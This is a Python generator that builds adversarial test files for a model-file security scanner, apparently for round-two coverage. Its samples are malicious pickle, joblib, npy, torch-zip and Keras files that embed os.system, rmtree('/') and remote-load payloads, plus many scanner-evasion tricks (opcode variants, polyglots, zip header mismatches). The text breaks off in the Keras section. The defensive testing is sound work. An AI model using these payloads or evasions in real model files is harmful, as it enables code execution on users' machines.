"""Round-2 corpus variants for generate.py, written as an outside attacker would after reading issue 15
(not the scanner): pickle opcode tricks, joblib and numpy loader paths, torch zip layouts, Keras,
TensorFlow, ONNX and chat-template spellings, polyglots and nested archives; and more benign models
that must scan clean (a wider scikit-learn zoo, estimators fitted on named columns, real np.savez
output, ONNX external data files, TensorFlow variables).

Nothing is loaded or run. Called from generate.main() with the generate module as `g`.
"""

import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
import gzip

import numpy as np

import pickle_asm as pa
from pickle_asm import call

# opcodes not in pickle_asm
BINPUT, BINGET, LONG_BINPUT, LONG_BINGET, PUT, GET = b"q", b"h", b"r", b"j", b"p", b"g"
INST, OBJ, NEWOBJ_EX, EXT1, EXT2, FRAME = b"i", b"o", b"\x92", b"\x82", b"\x83", b"\x95"
BINUNICODE8, SHORT_BINBYTES, BINBYTES, UNICODE, ADDITEMS, EMPTY_SET = b"\x8d", b"C", b"B", b"V", b"\x90", b"\x8f"
APPENDS, DUP, BININT1, BININT, PERSID, BINPERSID, NEWOBJ = b"e", b"2", b"K", b"J", b"P", b"Q", b"\x81"


def sb(b: bytes) -> bytes:
    return SHORT_BINBYTES + bytes([len(b)]) + b


def payload_p2(mod="os", name="system", arg="id"):
    return pa.glob(mod, name) + pa.MARK + pa.ustr(arg) + pa.TUPLE + pa.REDUCE


# ------------------------------------------------------------------------------------------------------
# malicious pickles: opcode tricks
# ------------------------------------------------------------------------------------------------------


def write_pickle_tricks(g):
    w = g.write
    P = pa.proto(2)
    cases = {
        # memo games: the callable is memoised, popped, fetched back much later
        "memo-popped-global.pkl": P + pa.glob("os", "system") + BINPUT + b"\x07" + pa.POP + pa.EMPTY_LIST + pa.POP + BINGET + b"\x07" + pa.MARK + pa.ustr("id") + pa.TUPLE + pa.REDUCE + pa.STOP,
        "memo-long-index.pkl": P + pa.glob("subprocess", "getoutput") + LONG_BINPUT + struct.pack("<I", 0x10000) + pa.POP + LONG_BINGET + struct.pack("<I", 0x10000) + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "memo-text-put-get.p": pa.glob("os", "system") + PUT + b"5\n" + pa.POP + GET + b"5\n" + pa.MARK + pa.text0("id") + pa.TUPLE + pa.REDUCE + pa.STOP,
        "memo-overwritten-slot.pkl": P + pa.glob("collections", "OrderedDict") + BINPUT + b"\x01" + pa.POP + pa.glob("os", "system") + BINPUT + b"\x01" + pa.POP + BINGET + b"\x01" + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        # STACK_GLOBAL over strings fetched from the memo / spelled with other string opcodes
        "stack-global-memo-strings.pkl": pa.proto(4) + pa.ustr("os") + BINPUT + b"\x00" + pa.POP + pa.ustr("system") + BINPUT + b"\x01" + pa.POP + BINGET + b"\x00" + BINGET + b"\x01" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "stack-global-binunicode8.pkl": pa.proto(4) + BINUNICODE8 + struct.pack("<Q", 2) + b"os" + BINUNICODE8 + struct.pack("<Q", 6) + b"system" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "stack-global-unicode-escape.pkl": pa.proto(4) + UNICODE + b"\\u006fs\n" + UNICODE + b"sy\\u0073tem\n" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "stack-global-dup.pkl": pa.proto(4) + pa.ustr("os") + pa.ustr("system") + pa.STACK_GLOBAL + DUP + pa.POP + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        # INST / OBJ / NEWOBJ_EX instead of REDUCE
        "inst-python2-name.p": pa.MARK + pa.text0("id") + INST + b"commands\ngetoutput\n" + pa.STOP,
        "obj-call.pkl": P + pa.MARK + pa.glob("subprocess", "Popen") + pa.ustr("id") + OBJ + pa.STOP,
        "obj-pop-then-safe.pkl": P + pa.MARK + pa.glob("os", "system") + pa.ustr("id") + OBJ + pa.POP + pa.NONE + pa.STOP,
        "newobj-ex.pkl": pa.proto(4) + pa.stack_global("subprocess", "Popen") + pa.ustr("id") + pa.TUPLE1 + pa.EMPTY_DICT + NEWOBJ_EX + pa.STOP,
        # EXT codes (copyreg extension registry)
        "ext1-code.pkl": P + EXT1 + b"\x01" + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "ext2-code.pkl": P + EXT2 + b"\x00\x01" + pa.STOP,
        # FRAME wrapping the payload (protocol 4 framing)
        "framed-payload.pkl": pa.proto(4) + FRAME + struct.pack("<Q", len(pa.body(call("os", "system", "id", protocol=4, stack=True)))) + pa.body(call("os", "system", "id", protocol=4, stack=True)) + pa.STOP,
        # builtins reached through names on allowlisted modules / getattr chains
        "dotted-builtins-via-numpy.pkl": pa.proto(4) + pa.stack_global("numpy", "core.multiarray.__builtins__") + pa.STOP,
        "dotted-os-via-numpy-testing.pkl": pa.proto(4) + pa.stack_global("numpy.testing._private.utils", "os.system") + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "joblib-numpy-pickle-os.pkl": pa.proto(4) + pa.stack_global("joblib.numpy_pickle", "os.system") + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "sklearn-module-os.pkl": pa.proto(2) + pa.glob("sklearn.utils._joblib", "os") + pa.STOP,
        "torch-hub-load.pkl": pa.proto(2) + pa.glob("torch.hub", "load") + pa.MARK + pa.ustr("attacker/repo") + pa.ustr("model") + pa.TUPLE + pa.REDUCE + pa.STOP,
        "torch-storage-load-from-bytes.pkl": pa.proto(2) + pa.glob("torch.storage", "_load_from_bytes") + sb(pa.call("os", "system", "id")) + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "numpy-load-via-lib.pkl": pa.proto(2) + pa.glob("numpy.lib.npyio", "load") + pa.MARK + pa.ustr("/tmp/evil.npy") + pa.NEWTRUE + pa.TUPLE + pa.REDUCE + pa.STOP,
        "joblib-load.pkl": pa.proto(2) + pa.glob("joblib", "load") + pa.ustr("/tmp/evil.joblib") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "pickle-loads-nested.pkl": pa.proto(2) + pa.glob("_pickle", "loads") + sb(pa.call("os", "system", "id")) + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "operator-methodcaller.pkl": pa.proto(2) + pa.glob("operator", "methodcaller") + pa.MARK + pa.ustr("system") + pa.ustr("id") + pa.TUPLE + pa.REDUCE + pa.glob("os", "__name__") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "functools-partial-build.pkl": pa.proto(2) + pa.glob("functools", "partial") + pa.glob("os", "system") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "types-functiontype.pkl": pa.proto(2) + pa.glob("types", "FunctionType") + pa.STOP,
        "builtins-breakpoint.pkl": pa.proto(2) + pa.glob("builtins", "breakpoint") + pa.EMPTY_TUPLE + pa.REDUCE + pa.STOP,
        "shutil-rmtree.pkl": pa.proto(2) + pa.glob("shutil", "rmtree") + pa.ustr("/") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "asyncio-subprocess.pkl": pa.proto(2) + pa.glob("asyncio.subprocess", "create_subprocess_shell") + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "uuid-getnode-popen.pkl": pa.proto(2) + pa.glob("uuid", "_get_command_stdout") + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "distutils-spawn.pkl": pa.proto(2) + pa.glob("distutils.spawn", "spawn") + pa.MARK + pa.ustr("id") + pa.TUPLE + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "setuptools-run-setup.pkl": pa.proto(2) + pa.glob("setuptools.sandbox", "run_setup") + pa.ustr("/tmp/setup.py") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "idlelib-run.pkl": pa.proto(2) + pa.glob("idlelib.pyshell", "ModifiedInterpreter.runcode") + pa.STOP,
        "lib2to3-pgen.pkl": pa.proto(2) + pa.glob("lib2to3.pgen2.pgen", "generate_grammar") + pa.ustr("/etc/passwd") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "trace-runctx.pkl": pa.proto(2) + pa.glob("trace", "Trace.runctx") + pa.STOP,
        "timeit-timeit.pkl": pa.proto(2) + pa.glob("timeit", "timeit") + pa.ustr("__import__('os').system('id')") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "doctest-debug-script.pkl": pa.proto(2) + pa.glob("doctest", "debug_script") + pa.ustr("import os") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "logging-config-listen.pkl": pa.proto(2) + pa.glob("logging.config", "listen") + pa.EMPTY_TUPLE + pa.REDUCE + pa.STOP,
        "tempfile-or-io-open.pkl": pa.proto(2) + pa.glob("io", "open") + pa.MARK + pa.ustr("/root/.bashrc") + pa.ustr("w") + pa.TUPLE + pa.REDUCE + pa.STOP,
        "numpy-f2py.pkl": pa.proto(2) + pa.glob("numpy.f2py", "compile") + pa.ustr("x") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "numpy-distutils-exec.pkl": pa.proto(2) + pa.glob("numpy.distutils.exec_command", "exec_command") + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "numpy-testing-runstring.pkl": pa.proto(2) + pa.glob("numpy.testing._private.utils", "runstring") + pa.MARK + pa.ustr("import os") + pa.EMPTY_DICT + pa.TUPLE + pa.REDUCE + pa.STOP,
        "sklearn-fetch-openml.pkl": pa.proto(2) + pa.glob("sklearn.datasets", "fetch_openml") + pa.ustr("x") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "torch-jit-load.pkl": pa.proto(2) + pa.glob("torch.jit", "load") + pa.ustr("/tmp/x.pt") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "torch-ops-load-library.pkl": pa.proto(2) + pa.glob("torch.ops", "load_library") + pa.ustr("/tmp/x.so") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "keras-models-load-model.pkl": pa.proto(2) + pa.glob("keras.models", "load_model") + pa.ustr("/tmp/x.keras") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "stack-global-string-escapes.pkl": pa.proto(4) + b"S'o\\x73'\n" + b"S'sy\\163tem'\n" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "stack-global-short-binstring.pkl": pa.proto(4) + b"U\x02os" + b"U\x06system" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
        "huggingface-hub-download.pkl": pa.proto(2) + pa.glob("huggingface_hub", "hf_hub_download") + pa.ustr("x/y") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
    }
    for name, data in cases.items():
        w("malicious", f"pickle2/{name}", data, "pickle-opcodes", f"FLAGGED or REJECT: {name.split('.')[0]} — opcode trick or import outside the allowlist")

    # Calls through stored attributes: APPEND/APPENDS/ADDITEMS call obj.append/extend/add when obj is not a
    # list/set; BUILD gives an allowlisted instance such an attribute.
    est = pa.glob("sklearn.preprocessing._data", "StandardScaler")
    newobj = est + pa.EMPTY_TUPLE + NEWOBJ
    for opname, attr, tail in [
        ("append", "append", pa.ustr("id") + pa.APPEND),
        ("extend", "extend", pa.MARK + pa.ustr("id") + APPENDS),
        ("additems", "add", pa.MARK + pa.ustr("id") + ADDITEMS),
    ]:
        for target_mod, target in [("os", "system"), ("numpy", "memmap")]:
            state = pa.EMPTY_DICT + pa.ustr(attr) + pa.glob(target_mod, target) + pa.SETITEM
            data = pa.proto(4) + newobj + state + pa.BUILD + tail + pa.STOP
            w("malicious", f"pickle2/stored-{attr}-{target_mod}-{target}.pkl", data, "pickle-opcodes", f"FLAGGED: {target_mod}.{target} — {opname} on a non-list calls the instance's own {attr} attribute")
    # BUILD slot state that swaps the instance's class (setattr(obj, '__class__', Booster)), then a Booster state
    swap = pa.proto(2) + newobj + pa.NONE + pa.EMPTY_DICT + pa.ustr("__class__") + pa.glob("xgboost.core", "Booster") + pa.SETITEM + pa.TUPLE2 + pa.BUILD + pa.STOP
    w("malicious", "pickle2/build-slot-class-swap.pkl", swap, "pickle-opcodes", "FLAGGED: xgboost.core.Booster — BUILD slot state sets __class__ of an allowlisted instance")
    # nested pickle handed to an allowlisted-looking bytes constructor then to the numpy object scalar
    # torch persistent ids: pid tuples naming globals
    pid = pa.proto(2) + pa.MARK + pa.ustr("storage") + pa.glob("os", "system") + pa.ustr("0") + pa.ustr("cpu") + pa.bint(1) + pa.TUPLE + BINPERSID + pa.STOP
    w("malicious", "pickle2/binpersid-global.pkl", pid, "pickle-opcodes", "FLAGGED: os.system — named inside a BINPERSID pid tuple")
    # the payload after a benign torch-style stream inside the same member: a second pickle
    w("malicious", "pickle2/two-pickles-proto0-proto4.pkl", pickle.dumps({"a": 1}, protocol=0) + call("os", "system", "id", protocol=4, stack=True), "pickle-opcodes", "DANGEROUS: os.system — protocol-4 payload after a protocol-0 stream")
    # long benign prefix (> 8 MiB of data) then the call
    big = pa.proto(4) + BINBYTES + struct.pack("<I", 9 << 20) + b"\0" * (9 << 20) + pa.POP + pa.body(call("os", "system", "id", protocol=4, stack=True)) + pa.STOP
    w("malicious", "pickle2/payload-after-9mib.pkl", gzip.compress(big, mtime=0), "pickle-opcodes", "DANGEROUS: os.system — after a 9 MiB bytes value, gzip-compressed")


# ------------------------------------------------------------------------------------------------------
# joblib and numpy loader paths
# ------------------------------------------------------------------------------------------------------


def wrapper_state(dtype_pickle: bytes, shape: bytes, align: bytes = pa.NONE, order: str = "C") -> bytes:
    return (
        pa.EMPTY_DICT
        + pa.MARK
        + pa.ustr("subclass") + pa.glob("numpy", "ndarray")
        + pa.ustr("shape") + shape
        + pa.ustr("order") + pa.ustr(order)
        + pa.ustr("dtype") + dtype_pickle
        + pa.ustr("allow_mmap") + pa.NEWFALSE
        + pa.ustr("numpy_array_alignment_bytes") + align
        + pa.SETITEMS
    )


def dtype_of(code: str) -> bytes:
    """numpy.dtype(code, False, True) + BUILD of a plain descr state, as numpy pickles dtypes."""
    state = pa.MARK + pa.bint(3) + pa.ustr("|") + pa.NONE + pa.NONE + pa.NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + pa.bint(0) + pa.TUPLE
    return pa.glob("numpy", "dtype") + pa.MARK + pa.ustr(code) + pa.NEWFALSE + pa.NEWTRUE + pa.TUPLE + pa.REDUCE + state + pa.BUILD


def write_joblib_paths(g):
    import joblib

    w = g.write
    wrapper = pa.glob("joblib.numpy_pickle", "NumpyArrayWrapper")
    evil = pa.body(call("os", "system", "id", protocol=0))
    # 1. plain pickle.load reads the "array bytes" as opcodes: a .pkl that joblib and pickle read differently
    n = len(evil)
    head = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + wrapper_state(dtype_of("u1"), pa.bint(n) + pa.TUPLE1) + pa.BUILD
    w("malicious", "joblib2/array-bytes-are-opcodes.pkl", head + evil + pa.POP + pa.NONE + pa.STOP, "joblib", "DANGEROUS: os.system — joblib skips these bytes as array data, pickle.load runs them")
    w("malicious", "joblib2/array-bytes-are-opcodes.joblib", head + evil + pa.POP + pa.NONE + pa.STOP, "joblib", "DANGEROUS: os.system — joblib skips these bytes as array data, pickle.load runs them")
    # 3. the same wrapper built twice through the memo: joblib reads array data at each BUILD
    st = wrapper_state(dtype_of("u1"), pa.bint(2) + pa.TUPLE1)
    twice = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + BINPUT + b"\x00" + st + pa.BUILD + b"\0\0" + pa.POP + BINGET + b"\x00" + pa.EMPTY_DICT + pa.BUILD + evil + pa.STOP
    w("malicious", "joblib2/wrapper-built-twice.joblib", twice, "joblib", "FLAGGED or REJECT: os.system — a memoised wrapper built a second time")
    # 4. a wrapper made without NEWOBJ (copyreg._reconstructor): joblib still reads its array
    recon = pa.glob("copyreg", "_reconstructor") + pa.MARK + wrapper + pa.glob("builtins", "object") + pa.NONE + pa.TUPLE + pa.REDUCE
    obj_dtype = pa.glob("numpy", "dtype") + pa.MARK + pa.ustr("O8") + pa.NEWFALSE + pa.NEWTRUE + pa.TUPLE + pa.REDUCE + pa.MARK + pa.bint(3) + pa.ustr("|") + pa.NONE + pa.NONE + pa.NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + pa.bint(63) + pa.TUPLE + pa.BUILD
    d = pa.proto(2) + recon + wrapper_state(obj_dtype, pa.bint(1) + pa.TUPLE1) + pa.BUILD + pa.STOP + call("os", "system", "id", protocol=2)
    w("malicious", "joblib2/reconstructor-wrapper-object.joblib", d, "joblib", "DANGEROUS: os.system — object array of a wrapper made by copyreg._reconstructor")
    # 4b. a wrapper inside an object array's nested pickle: joblib loads that with plain pickle.load
    inner = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + wrapper_state(dtype_of("u1"), pa.bint(len(evil)) + pa.TUPLE1) + pa.BUILD + evil + pa.POP + pa.STOP
    objd = pa.glob("numpy", "dtype") + pa.MARK + pa.ustr("O8") + pa.NEWFALSE + pa.NEWTRUE + pa.TUPLE + pa.REDUCE
    d = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + wrapper_state(objd, pa.bint(1) + pa.TUPLE1) + pa.BUILD + inner + pa.POP + pa.NONE + pa.STOP
    w("malicious", "joblib2/nested-wrapper-in-object-array.joblib", d, "joblib", "DANGEROUS: os.system — a wrapper inside an object array's nested pickle (plain pickle.load reads its 'array bytes' as opcodes)")
    # 5. shape given as numpy int64 scalars (joblib casts each with np.int64)
    def np_int(v: int) -> bytes:
        return pa.glob("numpy.core.multiarray", "scalar") + dtype_of("i8") + sb(struct.pack("<q", v)) + pa.TUPLE2 + pa.REDUCE
    d = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + wrapper_state(dtype_of("u1"), np_int(len(evil)) + pa.TUPLE1) + pa.BUILD + evil + pa.POP + pa.NONE + pa.STOP
    w("malicious", "joblib2/shape-numpy-scalars.pkl", d, "joblib", "FLAGGED or REJECT: os.system — array bytes (shape of numpy scalars) are opcodes for pickle.load")
    # 6. joblib's pre-0.10 "ZF" zlib container (numpy_pickle_compat.read_zfile)
    payload = call("os", "system", "id", protocol=2)
    zf = b"ZF" + ("{:#x}".format(len(payload))).encode().ljust(19) + zlib.compress(payload)
    w("malicious", "joblib2/zfile-compat.joblib", zf, "joblib", "DANGEROUS: os.system — joblib's legacy ZF zlib container (load_compatibility)")
    w("malicious", "joblib2/zfile-compat.pkl", zf, "joblib", "DANGEROUS: os.system — joblib's legacy ZF container under a .pkl name")
    # 7. legacy NDArrayWrapper: np.load(allow_pickle=True) of a path taken from the pickle
    nd = pa.proto(2) + pa.glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + pa.EMPTY_TUPLE + NEWOBJ + pa.EMPTY_DICT + pa.MARK + pa.ustr("filename") + pa.ustr("/tmp/evil.npy") + pa.ustr("subclass") + pa.glob("numpy", "ndarray") + pa.ustr("allow_mmap") + pa.NEWFALSE + pa.SETITEMS + pa.BUILD + pa.STOP
    w("malicious", "joblib2/ndarraywrapper-abs-path.joblib", nd, "joblib", "FLAGGED: joblib.numpy_pickle_compat.NDArrayWrapper — np.load(allow_pickle=True) of an absolute path")
    # 8. nested-structured object dtype (struct in struct) from the real library
    dt = np.dtype([("outer", [("inner", "O"), ("x", "<f4")])])
    arr = np.empty(1, dtype=dt)
    arr[0] = ((g.Payload("os.system", "id"), 1.0),)
    buf = io.BytesIO()
    joblib.dump({"a": arr}, buf)
    w("malicious", "joblib2/nested-struct-object.joblib", buf.getvalue(), "joblib", "DANGEROUS: posix.system — object field inside a nested structured dtype")
    # 9. compressed joblib with the payload in an object array, lz4 and xz
    for comp in ["lz4", "xz", "bz2"]:
        buf = io.BytesIO()
        joblib.dump({"x": np.array([g.Payload("os.system", "id")], dtype=object)}, buf, compress=(comp, 1))
        w("malicious", f"joblib2/object-array.{comp}.pkl", buf.getvalue(), "joblib", f"DANGEROUS: posix.system — object array in joblib compress={comp}, .pkl name")


def npy(header: str, payload: bytes, version=(1, 0)) -> bytes:
    return GEN.npy_with_header(header, payload, version)


GEN = None


def write_npy_paths(g):
    global GEN
    GEN = g
    w = g.write
    payload = call("os", "system", "id", protocol=3)
    headers = {
        "descr-named-unicode": "{'descr': '\\N{LATIN CAPITAL LETTER O}', 'fortran_order': False, 'shape': (1,)}",
        "descr-u-escape": "{'descr': '\\u004f', 'fortran_order': False, 'shape': (1,)}",
        "descr-raw-string": "{'descr': r'|O', 'fortran_order': False, 'shape': (1,)}",
        "descr-leading-space": "  {'descr': '|O', 'fortran_order': False, 'shape': (1,)}",
        "descr-fortran-object": "{'descr': '|O', 'fortran_order': True, 'shape': (1, 1)}",
        "descr-nested-struct": "{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,)}",
        "descr-titled-field": "{'descr': [(('title', 'a'), '|O')], 'fortran_order': False, 'shape': (1,)}",
        "descr-field-shape": "{'descr': [('a', '|O', (2,))], 'fortran_order': False, 'shape': (1,)}",
        "descr-pad-then-object": "{'descr': [('', '|V8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,)}",
        "descr-subarray-string": "{'descr': '(2,)O', 'fortran_order': False, 'shape': (1,)}",
        "descr-native-O": "{'descr': '=O', 'fortran_order': False, 'shape': (1,)}",
        "descr-little-O": "{'descr': '<O', 'fortran_order': False, 'shape': (1,)}",
        "descr-line-continuation": "{'descr': \\\n'|O', 'fortran_order': False, 'shape': (1,)}",
        "keys-reordered": "{'shape': (1,), 'fortran_order': False, 'descr': '|O'}",
        "shape-zero-dim": "{'descr': '|O', 'fortran_order': False, 'shape': ()}",
        "descr-tuple-shape-int": "{'descr': ('|O', 3), 'fortran_order': False, 'shape': (1,)}",
        "descr-comma-with-space": "{'descr': 'f8, O', 'fortran_order': False, 'shape': (1,)}",
        "descr-O4": "{'descr': '|O4', 'fortran_order': False, 'shape': (1,)}",
    }
    for name, h in headers.items():
        w("malicious", f"npy2/{name}.npy", npy(h, payload), "npy", f"FLAGGED or REJECT: os.system — .npy object array, header {name}")
    w("malicious", "npy2/version3-unicode-key.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", payload, (3, 0)), "npy", "DANGEROUS: os.system — .npy 3.0 object array")
    # np.load of a file that is not .npy: a pickle under the .npy name (allow_pickle=True loads it)
    w("malicious", "npy2/pickle-named.npy", call("os", "system", "id", protocol=2), "npy", "DANGEROUS: os.system — a pickle named .npy (np.load falls back to pickle.load)")
    # npz: real np.savez output (zip64 extra fields), member without .npy suffix, object member in a compressed npz
    buf = io.BytesIO()
    np.savez(buf, a=np.array([g.Payload("os.system", "id")], dtype=object))
    w("malicious", "npy2/savez-object.npz", buf.getvalue(), "npy", "DANGEROUS: posix.system — real np.savez output (zip64 local extras) with an object array", stable=False)
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.array([g.Payload("os.system", "id")], dtype=object))
    w("malicious", "npy2/savez-compressed-object.npz", buf.getvalue(), "npy", "DANGEROUS: posix.system — np.savez_compressed with an object array", stable=False)
    w("malicious", "npy2/member-without-suffix.npz", g.zip_bytes([("weights", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", payload))], zipfile.ZIP_DEFLATED), "npy", "DANGEROUS: os.system — .npz member without .npy suffix")


# ------------------------------------------------------------------------------------------------------
# torch zips
# ------------------------------------------------------------------------------------------------------


def raw_zip(entries, prepend=b"", comment=b"", cd_names=None, zip64=False):
    """Hand-written zip: entries (name, data). cd_names overrides central directory names."""
    out = bytearray(prepend)
    cd = bytearray()
    for i, (name, data) in enumerate(entries):
        nb = name.encode()
        crc = zlib.crc32(data)
        off = len(out)
        extra = b""
        if zip64:
            extra = struct.pack("<HHQQ", 1, 16, len(data), len(data))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if zip64 else 20, 0, 0, 0, 0x21, crc, 0xFFFFFFFF if zip64 else len(data), 0xFFFFFFFF if zip64 else len(data), len(nb), len(extra)) + nb + extra + data
        cn = (cd_names[i] if cd_names else name).encode()
        cextra = struct.pack("<HHQQQ", 1, 24, len(data), len(data), off) if zip64 else b""
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45 if zip64 else 20, 45 if zip64 else 20, 0, 0, 0, 0x21, crc, 0xFFFFFFFF if zip64 else len(data), 0xFFFFFFFF if zip64 else len(data), len(cn), len(cextra), 0, 0, 0, 0o644 << 16, 0xFFFFFFFF if zip64 else off) + cn + cextra
    cd_off = len(out)
    out += cd
    if zip64:
        z64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(entries), len(entries), len(cd), cd_off)
        out += struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, len(comment)) + comment
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), cd_off, len(comment)) + comment
    return bytes(out)


def write_torch_paths(g):
    w = g.write
    evil = call("os", "system", "id", protocol=2)
    sd, _ = g.torch_state_dict()
    storages: list = []
    good = g.torch_pickle(sd, storages)
    base = [("archive/data.pkl", evil), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
    w("malicious", "torch2/zip64.pt", raw_zip(base, zip64=True), "torch", "DANGEROUS: os.system — torch zip written with zip64 records")
    w("malicious", "torch2/prepended.pt", raw_zip(base, prepend=b"\0" * 64), "torch", "FLAGGED or REJECT: os.system — torch zip with 64 bytes prepended")
    w("malicious", "torch2/other-archive-name.pt", raw_zip([("my_model_v2/data.pkl", evil), ("my_model_v2/version", b"3\n")]), "torch", "DANGEROUS: os.system — archive prefix other than 'archive'")
    w("malicious", "torch2/nested-dir-data.pt", raw_zip([("archive/version", b"3\n"), ("archive/x/data.pkl", evil)]), "torch", "DANGEROUS: os.system — data.pkl below a subdirectory")
    w("malicious", "torch2/second-pkl.pt", raw_zip([("archive/data.pkl", good), ("archive/extra/constants.pkl", evil), ("archive/version", b"3\n")]), "torch", "DANGEROUS: os.system — a second pickle member (constants.pkl) beside a clean data.pkl")
    w("malicious", "torch2/cd-name-differs.pt", raw_zip([("archive/data.pkl", evil), ("archive/version", b"3\n")], cd_names=["archive/data.txt", "archive/version"]), "torch", "FLAGGED or REJECT: os.system — central directory names the member data.txt, local header data.pkl")
    w("malicious", "torch2/duplicate-data-pkl.pt", raw_zip([("archive/data.pkl", good), ("archive/data.pkl", evil), ("archive/version", b"3\n")]), "torch", "FLAGGED or REJECT: os.system — two data.pkl members")
    w("malicious", "torch2/comment-hides-eocd.pt", raw_zip(base, comment=b"model card: see README"), "torch", "DANGEROUS: os.system — zip with an archive comment")
    w("malicious", "torch2/deflated-data-pkl.pt", g.zip_bytes([("archive/data.pkl", evil), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED), "torch", "DANGEROUS: os.system — data.pkl deflated")
    # local header with a long extra field holding a benign pickle; the data after it is the payload
    good_small = pickle.dumps({"a": 1}, protocol=2)
    ex = struct.pack("<HH", 0xCAFE, len(good_small)) + good_small
    nb = b"archive/data.pkl"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(evil), len(evil), len(evil), len(nb), len(ex)) + nb + ex + evil
    cdir = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(evil), len(evil), len(evil), len(nb), 0, 0, 0, 0, 0o644 << 16, 0) + nb
    w("malicious", "torch2/local-extra-hides-pickle.pt", local + cdir + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cdir), len(local), 0), "torch", "DANGEROUS: os.system — a benign pickle in the local header's extra field, the payload after it")
    # legacy tar checkpoint: torch.load's _legacy_load reads the 'pickle' member of a tar
    t = g.tar_bytes([("sys_info", pickle.dumps({"little_endian": True}, protocol=2), tarfile.REGTYPE), ("pickle", evil, tarfile.REGTYPE), ("storages", pickle.dumps(0, protocol=2), tarfile.REGTYPE), ("tensors", pickle.dumps(0, protocol=2), tarfile.REGTYPE)])
    w("malicious", "torch2/legacy-tar.pt", t, "torch", "DANGEROUS: os.system — torch's legacy tar layout (its 'pickle' member)")
    # torch zip nested in a tar in a gzip, and in a zip in a tar.gz
    inner = raw_zip(base)
    w("malicious", "torch2/checkpoint.tar.gz", gzip.compress(g.tar_bytes([("ckpt/model.pt", inner, tarfile.REGTYPE)]), mtime=0), "torch", "DANGEROUS: os.system — torch zip in a tar in gzip")
    w("malicious", "torch2/zip-in-zip-in-tgz.tgz", gzip.compress(g.tar_bytes([("bundle.zip", g.zip_bytes([("m/model.pt", inner)]), tarfile.REGTYPE)]), mtime=0), "torch", "DANGEROUS: os.system — torch zip in a zip in a tar.gz")


# ------------------------------------------------------------------------------------------------------
# Keras
# ------------------------------------------------------------------------------------------------------


def write_keras_paths(g):
    w = g.write
    cfg = g.keras_config()

    def with_layer(layer):
        c = json.loads(json.dumps(cfg))
        c["config"]["layers"].append(layer)
        return c

    fn = lambda module, name: {"module": module, "class_name": "function", "config": name, "registered_name": "function"}  # noqa: E731
    variants = {
        # the function reference as a Dense activation (deserialised when the layer is built)
        "activation-keras-utils-get-file": with_layer({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d9", "units": 2, "activation": fn("keras.utils", "get_file")}, "registered_name": None}),
